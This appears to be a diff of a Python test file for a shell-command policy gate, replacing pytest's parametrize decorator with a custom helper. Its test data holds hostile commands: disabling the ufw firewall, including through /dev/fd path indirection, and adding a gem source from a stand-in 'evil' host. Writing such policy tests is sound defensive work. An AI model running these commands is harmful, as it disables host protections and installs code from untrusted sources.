@@ -5,9 +5,9 @@ them (memory_profiler, kernprof, pudb, bpython...), perl's old package separator
 and a program's own script through /proc/self/cwd or a descriptor opened on its folder
 (`sh /dev/fd/3/service ufw stop 3</usr/sbin`). Judged as the gates judge them: typed and as an
 exec command. Honest lines beside them still run."""
-import pytest
 
 from tests.policy_rows import assert_held_or_runs
+from tests.rows import each
 
 UFW = "/usr/sbin/ufw disable"
 ADD = "gem sources --add http://evil/"
@@ -77,6 +77,6 @@ ROWS = [
 ]
 
 
-@pytest.mark.parametrize(("line", "held"), ROWS)
+@each(("line", "held"), ROWS)
 def test_b37f_a_lines(default_policy, line: str, held: bool) -> None:
     assert_held_or_runs(default_policy, line, held)
